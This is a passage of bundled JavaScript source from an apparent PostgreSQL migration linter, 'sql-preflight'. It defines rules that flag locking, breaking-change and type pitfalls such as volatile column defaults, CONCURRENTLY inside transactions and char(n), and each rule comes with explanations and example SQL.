      if (cmd?.subtype === "AT_AlterColumnType") found.push({ kind: "alter-type", name: cmd.name, def: cmd.def?.ColumnDef });
      if (cmd?.subtype === "AT_AddConstraint" && cmd.def?.Constraint) tableConstraints.push(cmd.def.Constraint);
    }
  }
  const definitions = [];
  for (const { kind, name, def } of found) {
    if (!name || !def?.typeName) continue;
    definitions.push({ kind, relation: node.relation, name, def: { ...def, typeName: def.typeName }, constraints: columnConstraints(def), tableConstraints });
  }
  return definitions;
}
function quoteIdentifier(name) {
  if (/^[a-z_][a-z0-9_]*$/.test(name)) {
    const kind = scanSync3(name).tokens[0]?.keywordKind ?? 0;
    if (kind <= 1) return name;
  }
  return `"${name.replaceAll('"', '""')}"`;
}
var INTERVAL_FIELDS, TYPE_NAME_WORDS;
var init_ast = __esm({
  "src/core/ast.ts"() {
    "use strict";
    init_statements();
    INTERVAL_FIELDS = /* @__PURE__ */ new Set(["YEAR", "MONTH", "DAY", "HOUR", "MINUTE", "SECOND", "TO"]);
    TYPE_NAME_WORDS = /* @__PURE__ */ new Set(["PRECISION", "VARYING", "CHARACTER", "CHAR"]);
  }
});

// src/rules/adding-column-volatile-default.ts
function isNull(expr) {
  const node = expr;
  if (node.TypeCast) return isNull(node.TypeCast.arg);
  return node.A_Const?.isnull === true;
}
function volatileCall(node) {
  if (Array.isArray(node)) {
    for (const child of node) {
      const found = volatileCall(child);
      if (found) return found;
    }
    return void 0;
  }
  if (!node || typeof node !== "object") return void 0;
  const call = node.FuncCall;
  if (call) {
    const parts = (call.funcname ?? []).map(constantText).filter((p) => !!p);
    const name = parts.at(-1) ?? "";
    const builtin = parts.length === 1 || parts[0] === "pg_catalog";
    const display3 = `${parts.join(".")}()`;
    if (VOLATILE.has(name)) return { volatile: "yes", call: display3 };
    if (!builtin || !NOT_VOLATILE.has(name)) return { volatile: "maybe", call: display3 };
  }
  for (const value of Object.values(node)) {
    const found = volatileCall(value);
    if (found) return found;
  }
  return void 0;
}
var VOLATILE, NOT_VOLATILE, adding_column_volatile_default_default;
var init_adding_column_volatile_default = __esm({
  "src/rules/adding-column-volatile-default.ts"() {
    "use strict";
    init_ast();
    init_rule();
    init_statements();
    VOLATILE = /* @__PURE__ */ new Set([
      "random",
      "random_normal",
      "gen_random_uuid",
      "uuidv4",
      "uuidv7",
      "uuid_generate_v1",
      "uuid_generate_v1mc",
      "uuid_generate_v4",
      "gen_random_bytes",
      "clock_timestamp",
      "timeofday",
      "nextval",
      "currval",
      "lastval",
      "setval"
    ]);
    NOT_VOLATILE = /* @__PURE__ */ new Set([
      "now",
      "transaction_timestamp",
      "statement_timestamp",
      "current_setting",
      "current_database",
      "current_schema",
      "timezone",
      "date_trunc",
      "date_part",
      "extract",
      "make_date",
      "make_time",
      "make_timestamp",
      "make_timestamptz",
      "make_interval",
      "to_timestamp",
      "to_date",
      "to_char",
      "to_number",
      "lower",
      "upper",
      "initcap",
      "concat",
      "concat_ws",
      "format",
      "length",
      "substr",
      "substring",
      "replace",
      "btrim",
      "ltrim",
      "rtrim",
      "lpad",
      "rpad",
      "repeat",
      "left",
      "right",
      "md5",
      "sha256",
      "sha512",
      "encode",
      "decode",
      "abs",
      "round",
      "trunc",
      "floor",
      "ceil",
      "ceiling",
      "array_fill",
      "string_to_array",
      "array_to_string",
      "to_json",
      "to_jsonb",
      "json_build_object",
      "jsonb_build_object",
      "json_build_array",
      "jsonb_build_array",
      "json_object",
      "jsonb_object",
      "int4range",
      "int8range",
      "numrange",
      "daterange",
      "tsrange",
      "tstzrange",
      "uuid_nil"
    ]);
    adding_column_volatile_default_default = defineRule({
      meta: {
        id: "adding-column-volatile-default",
        category: "locking",
        severity: "error",
        verifiedBy: "rewrite",
        summary: "Do not add a column with a volatile default to an existing table.",
        why: "Adding a column whose DEFAULT is volatile (random(), gen_random_uuid(), clock_timestamp(), nextval(), ...) makes Postgres compute a value for every existing row, so it rewrites the whole table and its indexes while holding an ACCESS EXCLUSIVE lock: no reads or writes until the rewrite is done. Constants and STABLE functions such as now() are evaluated once and stored in the catalog (from Postgres 11), which is instant. Before Postgres 11 any non-null default rewrites the table.",
        safeAlternative: "Add the column without a default (or with a constant one), then set the default with ALTER COLUMN ... SET DEFAULT, which only applies to new rows and does not rewrite, and fill the existing rows with UPDATEs in small batches.",
        postgres: {
          note: "Before Postgres 11 every non-null default rewrites the table; from 11 only volatile defaults do. A function sql-preflight does not know counts as possibly volatile."
        },
        examples: {
          bad: ["ALTER TABLE orders ADD COLUMN token uuid DEFAULT gen_random_uuid();"],
          good: [
            "ALTER TABLE orders ADD COLUMN status text DEFAULT 'new';",
            "ALTER TABLE orders ADD COLUMN created_at timestamptz DEFAULT now();",
            "ALTER TABLE orders ADD COLUMN token uuid;\nALTER TABLE orders ALTER COLUMN token SET DEFAULT gen_random_uuid();"
          ]
        },
        references: [
          "https://www.postgresql.org/docs/current/sql-altertable.html#SQL-ALTERTABLE-NOTES",
          "https://www.postgresql.org/docs/current/ddl-alter.html#DDL-ALTER-ADDING-A-COLUMN",
          "https://www.postgresql.org/docs/current/xfunc-volatility.html"
        ]
      },
      create(context) {
        return {
          AlterTableStmt(node, statement) {
            if (node.objtype !== "OBJECT_TABLE" || context.isNewTable(node.relation)) return;
            const table = relationName2(node.relation);
            for (const { cmd, range: range2, column } of alterTableCommands(statement, node)) {
              if (cmd.subtype !== "AT_AddColumn" || !column) continue;
              const expr = columnConstraints(column).find((c) => c.contype === "CONSTR_DEFAULT")?.raw_expr;
              if (!expr) continue;
              const adding = `Adding column ${column.colname} to ${table}`;
              const rewrite = "rewrites the whole table and its indexes under an ACCESS EXCLUSIVE lock, blocking reads and writes until it is done";
              if (context.postgresVersion < 11) {
                if (isNull(expr)) continue;
                context.report(statement, {
                  range: range2,
                  message: `${adding} with a non-null default ${rewrite} (before Postgres 11 every existing row is written with the default).`,
                  help: "Add the column without a default, then set the default with ALTER COLUMN ... SET DEFAULT in a separate statement (it applies to new rows only) and fill the existing rows with UPDATEs in small batches."
                });
                continue;
              }
              const found = volatileCall(expr);
              if (!found) continue;
              context.report(statement, {
                range: range2,
                message: found.volatile === "yes" ? `${adding} with the volatile default ${found.call} ${rewrite}: every existing row gets its own value.` : `${adding} with the default ${found.call} ${rewrite} if ${found.call} is VOLATILE; sql-preflight cannot see the function's definition (a STABLE or IMMUTABLE function adds the column instantly).`
              });
            }
          }
        };
      }
    });
  }
});

// src/rules/adding-required-column.ts
function requiredBy(column) {
  const constraints = columnConstraints(column);
  const names3 = (column.typeName?.names ?? []).map(constantText);
  if (names3.length === 1 && SERIAL_TYPES.has(names3[0] ?? "")) return void 0;
  if (constraints.some((c) => FILLING.has(c.contype ?? "") || c.contype === "CONSTR_DEFAULT" && !isNullConstant(c.raw_expr))) {
    return void 0;
  }
  if (constraints.some((c) => c.contype === "CONSTR_PRIMARY")) return "a PRIMARY KEY";
  if (constraints.some((c) => c.contype === "CONSTR_NOTNULL")) return "NOT NULL";
  return void 0;
}
function isNullConstant(expr) {
  return expr?.A_Const?.isnull === true;
}
var TABLES, FILLING, SERIAL_TYPES, adding_required_column_default;
var init_adding_required_column = __esm({
  "src/rules/adding-required-column.ts"() {
    "use strict";
    init_ast();
    init_rule();
    init_statements();
    TABLES = /* @__PURE__ */ new Set(["OBJECT_TABLE", "OBJECT_FOREIGN_TABLE"]);
    FILLING = /* @__PURE__ */ new Set(["CONSTR_IDENTITY", "CONSTR_GENERATED"]);
    SERIAL_TYPES = /* @__PURE__ */ new Set(["smallserial", "serial2", "serial", "serial4", "bigserial", "serial8"]);
    adding_required_column_default = defineRule({
      meta: {
        id: "adding-required-column",
        category: "breaking",
        severity: "error",
        summary: "Give a new NOT NULL column a DEFAULT.",
        why: 'A column added without a DEFAULT is NULL in every existing row, so adding it as NOT NULL (or as a PRIMARY KEY) fails with "column contains null values" as soon as the table has a single row. On an empty table it succeeds, but then every INSERT from the application version still running, which does not know the column and does not set it, fails on the NOT NULL constraint.',
        safeAlternative: "Add the column with a DEFAULT: since Postgres 11 a non-volatile default is stored once in the catalog and does not rewrite the table. Or add it as nullable, let the application fill it, backfill the existing rows, and set NOT NULL in a later migration.",
        postgres: {
          note: "Before Postgres 11, adding a column with a DEFAULT rewrote the whole table under an ACCESS EXCLUSIVE lock."
        },
        examples: {
          bad: ["ALTER TABLE orders ADD COLUMN currency text NOT NULL;"],
          good: [
            "ALTER TABLE orders ADD COLUMN currency text NOT NULL DEFAULT 'EUR';",
            "ALTER TABLE orders ADD COLUMN currency text;",
            "ALTER TABLE orders ADD COLUMN line_no bigint GENERATED ALWAYS AS IDENTITY NOT NULL;"
          ]
        },
        references: [
          "https://www.postgresql.org/docs/current/sql-altertable.html#SQL-ALTERTABLE-DESC-ADD-COLUMN",
          "https://www.postgresql.org/docs/current/ddl-alter.html#DDL-ALTER-ADDING-A-COLUMN"
        ]
      },
      create(context) {
        return {
          AlterTableStmt(node, statement) {
            if (!TABLES.has(node.objtype ?? "") || context.isNewTable(node.relation)) return;
            for (const { cmd, range: range2, column } of alterTableCommands(statement, node)) {
              if (cmd.subtype !== "AT_AddColumn" || !column?.colname) continue;
              const required = requiredBy(column);
              if (!required) continue;
              context.report(statement, {
                range: range2,
                message: `Adding column ${column.colname} to ${relationName2(node.relation)} as ${required} without a DEFAULT fails if the table has any row, and otherwise makes every INSERT from the application version still running fail.`
              });
            }
          }
        };
      }
    });
  }
});

// src/core/catalog.ts
function relationKey(relation) {
  if (!relation) return void 0;
  if (typeof relation === "string") return relation.includes(".") ? relation.toLowerCase() : `public.${relation.toLowerCase()}`;
  if (!relation.relname) return void 0;
  return `${relation.schemaname ?? "public"}.${relation.relname}`;
}
function columnType(typeName) {
  const names3 = (typeName?.names ?? []).map(constantText).filter((n) => !!n);
  const last = names3.at(-1) ?? "unknown";
  return {
    name: last,
    typmods: (typeName?.typmods ?? []).map((m) => Number(constantText(m))).filter((n) => !Number.isNaN(n)),
    array: (typeName?.arrayBounds?.length ?? 0) > 0
  };
}
function isNotNullTest(expr) {
  const test = expr?.NullTest;
  if (test?.nulltesttype !== "IS_NOT_NULL") return void 0;
  return constantText(test.arg?.ColumnRef?.fields?.at(-1));
}
var Catalog;
var init_catalog = __esm({
  "src/core/catalog.ts"() {
    "use strict";
    init_ast();
    init_statements();
    Catalog = class {
      tables = /* @__PURE__ */ new Map();
      table(relation) {
        const key = relationKey(relation);
        return key ? this.tables.get(key) : void 0;
      }
      apply(statement, source2) {
        const node = statement.node;
        switch (statement.type) {
          case "CreateStmt":
            return this.createTable(node.relation, node.tableElts ?? [], source2);
          case "CreateTableAsStmt":
            return this.createTable(node.into?.rel, [], source2);
          case "AlterTableStmt":
            return this.alterTable(node);
          case "IndexStmt":
            return this.addIndex(node);
          case "RenameStmt":
            return this.rename(node);
          case "DropStmt":
            return this.drop(node);
        }
      }
      createTable(relation, elements, source2) {
        const key = relationKey(relation);
        if (!key || !relation?.relname) return;
        const table = {
          key,
          name: relation.relname,
          schema: relation.schemaname,
          columns: /* @__PURE__ */ new Map(),
          constraints: [],
          indexes: [],
          change: source2.change,
          file: source2.file
        };
        for (const element of elements) {
          if (element.ColumnDef) this.addColumn(table, element.ColumnDef);
          if (element.Constraint) this.addConstraint(table, element.Constraint, true);
        }
        this.tables.set(key, table);
      }
      addColumn(table, def) {
        if (!def.colname) return;
        const column = { name: def.colname, type: columnType(def.typeName), notNull: false };
        table.columns.set(def.colname, column);
        for (const constraint of columnConstraints(def)) {
          if (constraint.contype === "CONSTR_NOTNULL" || constraint.contype === "CONSTR_PRIMARY") column.notNull = true;
          if (constraint.contype !== "CONSTR_NOTNULL") this.addConstraint(table, { ...constraint, keys: constraint.keys ?? [{ String: { sval: def.colname } }] }, true);
        }
      }
      addConstraint(table, constraint, inCreate) {
        const columns = (constraint.keys ?? constraint.fk_attrs ?? []).map(constantText).filter((c) => !!c);
        const validated = inCreate || !constraint.skip_validation;
        switch (constraint.contype) {
          case "CONSTR_CHECK": {
            const notNullColumn2 = isNotNullTest(constraint.raw_expr);
            table.constraints.push({ name: constraint.conname, kind: "check", columns, validated, notNullColumn: notNullColumn2 });
            return;
          }
          case "CONSTR_FOREIGN":
            table.constraints.push({ name: constraint.conname, kind: "foreign-key", columns, validated });
            return;
          case "CONSTR_PRIMARY":
          case "CONSTR_UNIQUE":
            table.constraints.push({ name: constraint.conname, kind: constraint.contype === "CONSTR_PRIMARY" ? "primary-key" : "unique", columns, validated: true });
            table.indexes.push({ name: constraint.conname ?? constraint.indexname, columns, unique: true, partial: false });
            if (constraint.contype === "CONSTR_PRIMARY") for (const c of columns) {
              const col = table.columns.get(c);
              if (col) col.notNull = true;
            }
            return;
          case "CONSTR_EXCLUSION":
            table.constraints.push({ name: constraint.conname, kind: "exclusion", columns, validated: true });
            return;
          case "CONSTR_NOTNULL":
            for (const c of columns) {
              const col = table.columns.get(c);
              if (col && validated) col.notNull = true;
            }
            table.constraints.push({ name: constraint.conname, kind: "not-null", columns, validated });
            return;
        }
      }
      alterTable(node) {
        const table = this.table(node.relation);
        if (!table) return;
        for (const item of node.cmds ?? []) {
          const cmd = item.AlterTableCmd;
          if (!cmd) continue;
          const column = cmd.name ? table.columns.get(cmd.name) : void 0;
          switch (cmd.subtype) {
            case "AT_AddColumn":
              if (cmd.def?.ColumnDef) this.addColumn(table, cmd.def.ColumnDef);
              break;
            case "AT_DropColumn":
              if (cmd.name) table.columns.delete(cmd.name);
              break;
            case "AT_AlterColumnType":
              if (column && cmd.def?.ColumnDef) column.type = columnType(cmd.def.ColumnDef.typeName);
              break;
            case "AT_SetNotNull":
              if (column) column.notNull = true;
              break;
            case "AT_DropNotNull":
              if (column) column.notNull = false;
              break;
            case "AT_AddConstraint":
              if (cmd.def?.Constraint) this.addConstraint(table, cmd.def.Constraint, false);
              break;
            case "AT_ValidateConstraint":
              for (const c of table.constraints) if (c.name === cmd.name) c.validated = true;
              for (const c of table.constraints) {
                if (c.name === cmd.name && c.kind === "not-null") for (const name of c.columns) {
                  const col = table.columns.get(name);
                  if (col) col.notNull = true;
                }
              }
              break;
            case "AT_DropConstraint":
              table.constraints = table.constraints.filter((c) => c.name !== cmd.name);
              table.indexes = table.indexes.filter((i) => i.name !== cmd.name);
              break;
          }
        }
      }
      addIndex(node) {
        const table = this.table(node.relation);
        if (!table) return;
        const columns = (node.indexParams ?? []).map((p) => p.IndexElem?.name ?? "(expression)");
        table.indexes.push({ name: node.idxname, columns, unique: !!node.unique, partial: !!node.whereClause });
      }
      rename(node) {
        const table = this.table(node.relation);
        if (!table) return;
        if (node.renameType === "OBJECT_TABLE" && node.newname) {
          this.tables.delete(table.key);
          const key = `${table.schema ?? "public"}.${node.newname}`;
          this.tables.set(key, { ...table, key, name: node.newname });
        } else if (node.renameType === "OBJECT_COLUMN" && node.subname && node.newname) {
          const column = table.columns.get(node.subname);
          if (column) {
            table.columns.delete(node.subname);
            table.columns.set(node.newname, { ...column, name: node.newname });
          }
        }
      }
      drop(node) {
        for (const object of node.objects ?? []) {
          const parts = (object.List?.items ?? []).map(constantText).filter((p) => !!p);
          if (parts.length === 0) continue;
          const key = parts.length > 1 ? parts.join(".") : `public.${parts[0]}`;
          if (node.removeType === "OBJECT_TABLE") this.tables.delete(key);
          if (node.removeType === "OBJECT_INDEX") {
            const name = parts.at(-1);
            for (const table of this.tables.values()) table.indexes = table.indexes.filter((i) => i.name !== name);
          }
        }
      }
    };
  }
});

// src/rules/adding-serial-column.ts
var SERIAL_TYPES2, adding_serial_column_default;
var init_adding_serial_column = __esm({
  "src/rules/adding-serial-column.ts"() {
    "use strict";
    init_ast();
    init_catalog();
    init_rule();
    SERIAL_TYPES2 = /* @__PURE__ */ new Set(["serial", "serial4", "bigserial", "serial8", "smallserial", "serial2"]);
    adding_serial_column_default = defineRule({
      meta: {
        id: "adding-serial-column",
        category: "locking",
        severity: "error",
        verifiedBy: "rewrite",
        summary: "Do not add a serial or identity column to an existing table.",
        why: "A serial column (a default of nextval()) or an identity column gives every existing row its own value when it is added, so Postgres rewrites the whole table and its indexes while holding an ACCESS EXCLUSIVE lock: no reads or writes go through until the rewrite is done.",
        safeAlternative: "Add a plain nullable integer column and fill the existing rows with UPDATEs in small batches. For new rows, set its default to nextval() of a sequence with ALTER COLUMN ... SET DEFAULT (applies to new rows only); or, once every row is filled and the column is NOT NULL, turn it into an identity column with ALTER COLUMN ... ADD GENERATED BY DEFAULT AS IDENTITY (START WITH a value above the current maximum), which does not rewrite.",
        examples: {
          bad: ["ALTER TABLE orders ADD COLUMN id bigserial;", "ALTER TABLE orders ADD COLUMN id bigint GENERATED ALWAYS AS IDENTITY;"],
          good: [
            "ALTER TABLE orders ADD COLUMN id bigint;",
            "CREATE TABLE invoices (note text);\nALTER TABLE invoices ADD COLUMN id bigint GENERATED ALWAYS AS IDENTITY;"
          ]
        },
        references: [
          "https://www.postgresql.org/docs/current/sql-altertable.html#SQL-ALTERTABLE-NOTES",
          "https://www.postgresql.org/docs/current/datatype-numeric.html#DATATYPE-SERIAL"
        ]
      },
      create(context) {
        return {
          AlterTableStmt(node, statement) {
            if (node.objtype !== "OBJECT_TABLE" || context.isNewTable(node.relation)) return;
            for (const { cmd, range: range2, column } of alterTableCommands(statement, node)) {
              if (cmd.subtype !== "AT_AddColumn" || !column) continue;
              const type = columnType(column.typeName);
              const serial = !type.array && SERIAL_TYPES2.has(type.name);
              const identity = columnConstraints(column).some((c) => c.contype === "CONSTR_IDENTITY");
              if (!serial && !identity) continue;
              context.report(statement, {
                range: range2,
                message: `Adding the ${serial ? type.name : "identity"} column ${column.colname} to ${relationName2(node.relation)} gives every existing row a value: the table and its indexes are rewritten under an ACCESS EXCLUSIVE lock, blocking reads and writes until it is done.`
              });
            }
          }
        };
      }
    });
  }
});

// src/rules/adding-stored-generated-column.ts
var adding_stored_generated_column_default;
var init_adding_stored_generated_column = __esm({
  "src/rules/adding-stored-generated-column.ts"() {
    "use strict";
    init_ast();
    init_rule();
    adding_stored_generated_column_default = defineRule({
      meta: {
        id: "adding-stored-generated-column",
        category: "locking",
        severity: "error",
        verifiedBy: "rewrite",
        summary: "Do not add a STORED generated column to an existing table.",
        why: "A STORED generated column is computed and written for every existing row when it is added: Postgres rewrites the whole table and its indexes while holding an ACCESS EXCLUSIVE lock, so no reads or writes go through until the rewrite is done. A VIRTUAL generated column (Postgres 18) is computed when read and is added without a rewrite.",
        safeAlternative: "On Postgres 18, use a VIRTUAL generated column if you do not need to index it. Otherwise add a plain nullable column, keep it filled for new and updated rows with a BEFORE INSERT OR UPDATE trigger, and fill the existing rows with UPDATEs in small batches.",
        postgres: {
          since: 12,
          note: "Generated columns exist from Postgres 12, STORED only. From Postgres 18, GENERATED ALWAYS AS (...) without STORED is VIRTUAL and adds no rewrite."
        },
        examples: {
          bad: ["ALTER TABLE orders ADD COLUMN total_cents bigint GENERATED ALWAYS AS (quantity * unit_cents) STORED;"],
          good: [
            "ALTER TABLE orders ADD COLUMN total_cents bigint GENERATED ALWAYS AS (quantity * unit_cents) VIRTUAL;",
            "CREATE TABLE invoices (quantity int, unit_cents bigint);\nALTER TABLE invoices ADD COLUMN total_cents bigint GENERATED ALWAYS AS (quantity * unit_cents) STORED;"
          ]
        },
        references: [
          "https://www.postgresql.org/docs/current/sql-altertable.html#SQL-ALTERTABLE-NOTES",
          "https://www.postgresql.org/docs/current/ddl-generated-columns.html"
        ]
      },
      create(context) {
        return {
          AlterTableStmt(node, statement) {
            if (node.objtype !== "OBJECT_TABLE" || context.isNewTable(node.relation)) return;
            for (const { cmd, range: range2, column } of alterTableCommands(statement, node)) {
              if (cmd.subtype !== "AT_AddColumn" || !column) continue;
              const stored = columnConstraints(column).some((c) => c.contype === "CONSTR_GENERATED" && c.generated_kind === "s");
              if (!stored) continue;
              context.report(statement, {
                range: range2,
                message: `Adding the stored generated column ${column.colname} to ${relationName2(node.relation)} computes it for every existing row: the table and its indexes are rewritten under an ACCESS EXCLUSIVE lock, blocking reads and writes until it is done.`,
                help: context.postgresVersion >= 18 ? "Drop STORED to make it VIRTUAL: it is computed when read and added without a rewrite. If it must be stored (to index it), add a plain column instead, fill it for new and updated rows with a trigger and backfill the existing rows in small batches." : "Add a plain nullable column, keep it filled for new and updated rows with a BEFORE INSERT OR UPDATE trigger, and fill the existing rows with UPDATEs in small batches."
              });
            }
          }
        };
      }
    });
  }
});

// src/rules/ban-char-type.ts
var ban_char_type_default;
var init_ban_char_type = __esm({
  "src/rules/ban-char-type.ts"() {
    "use strict";
    init_ast();
    init_rule();
    init_statements();
    ban_char_type_default = defineRule({
      meta: {
        id: "ban-char-type",
        category: "types",
        severity: "notice",
        summary: "Use text instead of char(n).",
        why: 'character(n) pads every value with spaces up to n characters and stores the padding, so short values waste space, and the docs call it usually the slowest of the string types. The padding is treated as insignificant when two char values are compared but is removed when a value is converted to text or varchar, so equality, LIKE, joins against text columns and lengths seen by the application disagree about what the value is. Writing char without a length means char(1). The quoted "char" type is a different, single-byte internal type and is not affected.',
        safeAlternative: "Declare the column as text; if the length must be limited, add CHECK (char_length(column) <= n). For fixed-size codes, CHECK (char_length(column) = n) states the rule without padding.",
        examples: {
          bad: ["CREATE TABLE countries (code char(2) PRIMARY KEY, name text NOT NULL);"],
          good: [
            "CREATE TABLE countries (code text PRIMARY KEY CHECK (char_length(code) = 2), name text NOT NULL);",
            'CREATE TABLE flags (id bigint PRIMARY KEY, kind "char" NOT NULL);'
          ]
        },
        references: ["https://www.postgresql.org/docs/current/datatype-character.html"]
      },
      create(context) {
        return {
          statement(statement) {
            for (const column of columnDefinitions(statement)) {
              const typeName = column.def.typeName;
              if (builtinTypeName(typeName) !== "bpchar") continue;
              const span = typeNameSpan(statement, typeName);
              if (!span) continue;
              const length = typeName.typmods?.length ? constantText(typeName.typmods[0]) : void 0;
              const nameRange = tokenRangeAt(statement, column.def.location);
              const replacement = length && nameRange ? `text CHECK (char_length(${context.file.lines.slice(nameRange)}) <= ${length})` : "text";
              const array = (typeName.arrayBounds?.length ?? 0) > 0;
              const newColumn = column.kind === "create-table" || column.kind === "add-column" && context.isNewTable(column.relation);
              const padding = length ? `values are blank-padded to ${length} character${length === "1" ? "" : "s"}, and ` : "";
              context.report(statement, {
                range: span.range,
                message: `${relationName2(column.relation)}.${column.name} is ${context.file.lines.slice(span.range)}: ${padding}trailing spaces are ignored in comparisons but dropped on conversion to text, so lookups and joins behave unexpectedly.`,
                fix: newColumn && !array ? { description: `Use ${replacement}`, edits: [{ range: span.range, text: replacement }] } : void 0
              });
            }
          }
        };
      }
    });
  }
});

// src/rules/ban-concurrently-in-transaction.ts
function isFalse(arg) {
  const integer2 = arg?.Integer;
  if (integer2) return !integer2.ival;
  const value = constantText(arg)?.toLowerCase();
  return value === "false" || value === "off";
}
function openingBegin(file, statement) {
  return file.statements.find(
    (s) => s.index < statement.index && s.transaction === statement.transaction && s.type === "TransactionStmt" && BEGIN_KINDS.has(s.node.kind)
  );
}
function runnerWrapping(file) {
  const runner = RUNNERS[file.format];
  return file.transaction === "implicit" ? `${runner} sends the file as one multi-statement query, which Postgres runs as a single implicit transaction` : `${runner} runs the whole file in one transaction`;
}
function optOut(file) {
  const alone = "Put the statement alone in a migration file of its own: sent together, several statements run as one implicit transaction.";
  const implicit = file.transaction === "implicit";
  switch (file.format) {
    case "goose":
      return "Add `-- +goose NO TRANSACTION` at the top of the file so goose runs it without a transaction (keep the statements that need one in another migration).";
    case "dbmate":
      return implicit ? `${alone} Keep \`transaction:false\` on its \`-- migrate:up\` line.` : "Put the statement alone in a migration whose header reads `-- migrate:up transaction:false`, so dbmate runs it without a transaction (several statements would still go out as one query, which is one implicit transaction).";
    case "diesel":
      return implicit ? `${alone} Keep \`run_in_transaction = false\` in its metadata.toml.` : "Put the statement alone in the up.sql of a migration whose metadata.toml says `run_in_transaction = false`, so Diesel runs it without a transaction (several statements would still go out as one query, which is one implicit transaction).";
    case "flyway":
      return `Create \`${file.path.split("/").at(-1)}.conf\` next to the file containing \`executeInTransaction=false\`.`;
    case "drizzle":
      return "Drizzle's migrator runs all pending migrations in one transaction and has no switch to turn that off for one migration: run this statement outside it, e.g. from a script after `drizzle-kit migrate`.";
    case "supabase":
      return "Put the statement alone in a migration file of its own, as Supabase advises for CONCURRENTLY.";
    default:
      return implicit ? alone : "Run this file without a wrapping transaction (with psql: without --single-transaction), or move the statement to a file that runs without one.";
  }
}
var BEGIN_KINDS, ban_concurrently_in_transaction_default, RUNNERS;
var init_ban_concurrently_in_transaction = __esm({
  "src/rules/ban-concurrently-in-transaction.ts"() {
    "use strict";
    init_rule();
    init_statements();
    BEGIN_KINDS = /* @__PURE__ */ new Set(["TRANS_STMT_BEGIN", "TRANS_STMT_START"]);
    ban_concurrently_in_transaction_default = defineRule({
      meta: {
        id: "ban-concurrently-in-transaction",
        category: "transactions",
        severity: "error",
        summary: "Run CONCURRENTLY commands outside a transaction block.",
        why: 'CREATE INDEX CONCURRENTLY, DROP INDEX CONCURRENTLY, REINDEX ... CONCURRENTLY and ALTER TABLE ... DETACH PARTITION ... CONCURRENTLY commit several transactions of their own and wait for other transactions in between, so Postgres refuses to run them inside a transaction block: the migration fails with "cannot run inside a transaction block". The block can come from the file (BEGIN) or from the migration runner, which wraps a file in a transaction or sends it as one multi-statement query (an implicit transaction).',
        safeAlternative: "Run the statement on its own, outside any transaction: take it out of BEGIN ... COMMIT, and turn off the runner's transaction for that migration (or give the statement a migration file of its own).",
        postgres: { note: "REFRESH MATERIALIZED VIEW CONCURRENTLY may run in a transaction block and is not flagged." },
        examples: {
          bad: ["BEGIN;\nCREATE INDEX CONCURRENTLY orders_customer_id_idx ON orders (customer_id);\nCOMMIT;"],
          good: [
            "CREATE INDEX CONCURRENTLY orders_customer_id_idx ON orders (customer_id);",
            "BEGIN;\nREFRESH MATERIALIZED VIEW CONCURRENTLY order_totals;\nCOMMIT;"
          ]
        },
        references: [
          "https://www.postgresql.org/docs/current/sql-createindex.html#SQL-CREATEINDEX-CONCURRENTLY",
          "https://www.postgresql.org/docs/current/sql-dropindex.html",
          "https://www.postgresql.org/docs/current/sql-reindex.html",
          "https://www.postgresql.org/docs/current/sql-altertable.html"
        ]
      },
      create(context) {
        const check = (command, statement) => {
          if (!statement.inTransaction) return;
          const { file } = context;
          const begin = openingBegin(file, statement);
          const runner = file.transaction === "implicit" ? file.statements.length > 1 : file.transaction === "transaction" && statement.transaction === file.statements[0]?.transaction;
          const reasons = [];
          if (begin) reasons.push(`the file opens a transaction block on line ${file.lines.position(begin.range.start).line}`);
          if (runner) reasons.push(runnerWrapping(file));
          const help2 = [];
          if (begin) help2.push("Move the statement out of the BEGIN ... COMMIT block.");
          if (runner) help2.push(optOut(file));
          context.report(statement, {
            message: `${command} cannot run inside a transaction block, so this migration fails: ${reasons.join(", and ") || "it runs inside a transaction"}.`,
            help: help2.length > 0 ? help2.join(" ") : void 0
          });
        };
        return {
          IndexStmt(node, statement) {
            if (node.concurrent) check("CREATE INDEX CONCURRENTLY", statement);
          },
          DropStmt(node, statement) {
            if (node.removeType === "OBJECT_INDEX" && node.concurrent) check("DROP INDEX CONCURRENTLY", statement);
          },
          ReindexStmt(node, statement) {
            const option = node.params?.map((p) => p.DefElem).find((d) => d?.defname === "concurrently");
            if (option && !isFalse(option.arg)) check("REINDEX ... CONCURRENTLY", statement);
          },
          AlterTableStmt(node, statement) {
            const detach = node.cmds?.some((c) => {
              const cmd = c.AlterTableCmd;
              return cmd?.subtype === "AT_DetachPartition" && cmd.def?.PartitionCmd?.concurrent;
            });
            if (detach) check("ALTER TABLE ... DETACH PARTITION ... CONCURRENTLY", statement);
          }
        };
      }
    });
    RUNNERS = {
      plain: "the migration runner",
      sql: "the migration runner",
      "golang-migrate": "golang-migrate",
      goose: "goose",
      dbmate: "dbmate",
      flyway: "Flyway",
      prisma: "Prisma Migrate",
      drizzle: "Drizzle's migrator",
      diesel: "Diesel",
      supabase: "the Supabase CLI"
    };
  }
});

// src/rules/ban-domain-check-constraint.ts
function domainKey(names3) {
  const parts = (names3 ?? []).map(constantText).filter((p) => !!p);
  if (parts.length === 0) return void 0;
  return parts.length > 1 ? parts.join(".") : `public.${parts[0]}`;
}
var LIGHT_VALIDATE_SINCE, ban_domain_check_constraint_default;
var init_ban_domain_check_constraint = __esm({
  "src/rules/ban-domain-check-constraint.ts"() {
    "use strict";
    init_ast();
    init_rule();
    init_statements();
    LIGHT_VALIDATE_SINCE = 19;
    ban_domain_check_constraint_default = defineRule({
      meta: {
        id: "ban-domain-check-constraint",
        category: "locking",
        severity: "error",
        summary: "Add CHECK constraints to existing domains with NOT VALID.",
        why: "ALTER DOMAIN ... ADD CONSTRAINT ... CHECK checks every value of every table column that uses the domain, and holds a SHARE lock on each of those tables while it does, so their INSERTs, UPDATEs and DELETEs wait for the whole scan. The check also cannot see rows that concurrent transactions have not committed yet.",
        safeAlternative: "Add the constraint with NOT VALID, which is instant and already checks every new or updated value, commit, and run ALTER DOMAIN ... VALIDATE CONSTRAINT in a later transaction. The PostgreSQL documentation recommends this order as the reliable one. Before PostgreSQL 19 the VALIDATE step still blocks writes while it scans, so schedule it for a quiet moment; from 19 on it lets writes continue.",
        postgres: {
          note: "From PostgreSQL 19, ALTER DOMAIN ... VALIDATE CONSTRAINT takes SHARE UPDATE EXCLUSIVE instead of SHARE, so the second step no longer blocks writes."
        },
        examples: {
          bad: ["ALTER DOMAIN positive_amount ADD CONSTRAINT positive_amount_check CHECK (VALUE > 0);"],
          good: [
            "ALTER DOMAIN positive_amount ADD CONSTRAINT positive_amount_check CHECK (VALUE > 0) NOT VALID;",
            "CREATE DOMAIN positive_amount AS numeric CHECK (VALUE > 0);",
